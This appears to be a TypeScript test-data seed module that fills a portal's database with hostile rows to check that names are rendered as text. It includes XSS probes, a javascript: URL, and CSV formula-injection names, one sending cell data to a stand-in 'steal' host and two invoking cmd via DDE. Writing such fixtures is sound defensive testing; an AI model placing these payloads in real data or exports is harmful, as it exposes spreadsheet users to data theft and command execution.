import { abnFromBody } from '../abn';
import { type SeedCalendar, addDays } from '../anchor';
import { createRandom } from '../random';
import type { ActivityRow, InvoiceRow, MembershipRow, OrganisationRow, UserRow } from '../rows';

export const XSS_IMG = '<img src=x onerror=alert(1)>';
export const XSS_BOLD = '<b>bold</b>';
export const XSS_URL = 'javascript:alert(1)';
/** Names a spreadsheet would run as formulas if an export did not neutralise them. */
export const FORMULA_NAMES = {
  equals: '=HYPERLINK("https://formula.example/steal?d="&A1,"Click for details")',
  plus: "+61 2 9999 0000+cmd|' /C calc'!A0",
  at: "@SUM(1+1)*cmd|' /C calc'!A0",
} as const;
export const LONG_DESCRIPTION_LENGTH = 10_000;

export interface HostileRows {
  organisations: OrganisationRow[];
  users: UserRow[];
  memberships: MembershipRow[];
  invoices: InvoiceRow[];
  activities: ActivityRow[];
}

interface HostileCase {
  organisation: { name: string; legalName: string; website: string; domain: string };
  user: { firstName: string; lastName: string; email: string };
}

/**
 * Rows that prove the portal renders data as text: markup in names, script URLs, emoji,
 * right-to-left scripts, LIKE metacharacters, a 10,000-character description, and names that
 * start with =, + and @ (formula injection into a CSV export). They are the newest rows, so they
 * appear on the first page of every list.
 */
const CASES: readonly HostileCase[] = [
  {
    organisation: {
      name: `${XSS_IMG} Holdings`,
      legalName: `${XSS_BOLD} Pty Ltd`,
      website: XSS_URL,
      domain: 'securitytest.com.au',
    },
    user: { firstName: XSS_IMG, lastName: XSS_BOLD, email: 'xss.probe@securitytest.com.au' },
  },
  {
    organisation: {
      name: '🦘 Kangaroo Koffee ☕',
      legalName: 'Kangaroo Koffee Pty Ltd',
      website: 'https://kangarookoffee.com.au',
      domain: 'kangarookoffee.com.au',
    },
    user: { firstName: '🦘 Skippy', lastName: 'Roo 🇦🇺', email: 'skippy@kangarookoffee.com.au' },
  },
  {
    organisation: {
      name: 'שקד טכנולוגיות',
      legalName: 'Shaked Technologies Pty Ltd',
      website: 'https://shaked.com.au',
      domain: 'shaked.com.au',
    },
    user: { firstName: 'נועה', lastName: 'כהן', email: 'noa.cohen@shaked.com.au' },
  },
  {
    organisation: {
      name: 'مخبز الياسمين',
      legalName: 'Yasmin Bakery Pty Ltd',
      website: 'https://yasminbakery.com.au',
      domain: 'yasminbakery.com.au',
    },
    user: { firstName: 'محمد', lastName: 'العلي', email: 'm.alali@yasminbakery.com.au' },
  },
  {
    organisation: {
      name: '100% Organic_Produce Co',
      legalName: "O'Brien \\ Sons Pty Ltd",
      website: 'https://organicproduce.com.au',
      domain: 'organicproduce.com.au',
    },
    user: { firstName: 'Percy_100%', lastName: "D'Arcy", email: 'percy_darcy@organicproduce.com.au' },
  },
  {
    organisation: {
      name: FORMULA_NAMES.equals,
      legalName: '=1+2 Formula Probe Pty Ltd',
      website: 'https://equalsprobe.com.au',
      domain: 'equalsprobe.com.au',
    },
    user: { firstName: FORMULA_NAMES.equals, lastName: 'Equals', email: 'formula.equals@equalsprobe.com.au' },
  },
  {
    organisation: {
      name: FORMULA_NAMES.plus,
      legalName: '+61 Plus Probe Pty Ltd',
      website: 'https://plusprobe.com.au',
      domain: 'plusprobe.com.au',
    },
    user: { firstName: FORMULA_NAMES.plus, lastName: 'Plus', email: 'formula.plus@plusprobe.com.au' },
  },
  {
    organisation: {
      name: FORMULA_NAMES.at,
      legalName: '@Probe Pty Ltd',
      website: 'https://atprobe.com.au',
      domain: 'atprobe.com.au',
    },
    user: { firstName: FORMULA_NAMES.at, lastName: 'At', email: 'formula.at@atprobe.com.au' },
  },
];

export function hostileRows(calendar: SeedCalendar): HostileRows {
  const random = createRandom('hostile');
  const rows: HostileRows = { organisations: [], users: [], memberships: [], invoices: [], activities: [] };
  CASES.forEach((testCase, i) => {
    const createdAt = new Date(calendar.anchor.getTime() - i * 1000).toISOString();
    const organisationId = random.uuid();
    const userId = random.uuid();
    rows.organisations.push({
      id: organisationId,
      name: testCase.organisation.name,
      legal_name: testCase.organisation.legalName,
      abn: abnFromBody(random.digits(9)),
      contact_number: `+61 2 9${random.digits(3)} ${random.digits(4)}`,
      website: testCase.organisation.website,
      billing_email: `accounts@${testCase.organisation.domain}`,
      created_at: createdAt,
      subscription_status: 'ACTIVE',
      subscription_valid_until: addDays(calendar.anchor, 30).toISOString(),
      card_valid_until: addDays(calendar.anchor, 400).toISOString(),
      stripe_customer_id: `cus_${random.chars(14)}`,
      promotion_code: null,
      coupon_id: null,
      connected_to_xero: false,
      xero_last_sync_transactions_at: null,
      tax_year_start_month: 7,
      completed_onboarding: true,
      quota_max_users: 5,
      total_projects: 1,
      total_transactions: 10,
      total_transactions_allocated: 5,
    });
    rows.users.push({
      id: userId,
      email: testCase.user.email,
      first_name: testCase.user.firstName,
      last_name: testCase.user.lastName,
      avatar_url: null,
      status: 'ACTIVE',
      email_verified: true,
      two_factor_enabled: false,
      is_admin: false,
      role: null,
      providers: ['password'],
      google_id: null,
      xero_id: null,
      created_at: createdAt,
      last_login_at: createdAt,
    });
    rows.memberships.push({
      organisation_id: organisationId,
      user_id: userId,
      role: 'OWNER',
      joined_at: createdAt,
    });
    rows.invoices.push({
      id: `in_${random.chars(24)}`,
      organisation_id: organisationId,
      number: `${random.chars(8, '0123456789ABCDEF')}-0001`,
      status: 'paid',
      total: 10890,
      amount_due: 10890,
      amount_refunded: 0,
      refunded: false,
      currency: 'aud',
      created: createdAt,
      // The first case's invoice carries a script URL where the PDF link belongs.
      invoice_pdf:
        i === 0 ? XSS_URL : `https://pay.stripe.com/invoice/acct_1PortalDemo/live_${random.chars(40)}/pdf`,
    });
    rows.activities.push({
      id: random.uuid(),
      activity_type: 'ORGANISATION',
      description: i === 0 ? longDescription() : `Renamed the organisation to ${testCase.organisation.name}`,
      created_at: createdAt,
      user_id: userId,
      organisation_id: organisationId,
    });
  });
  return rows;
}

function longDescription(): string {
  const sentence = `Imported notes containing ${XSS_IMG} and ${XSS_BOLD}; `;
  return sentence
    .repeat(Math.ceil(LONG_DESCRIPTION_LENGTH / sentence.length))
    .slice(0, LONG_DESCRIPTION_LENGTH);
}
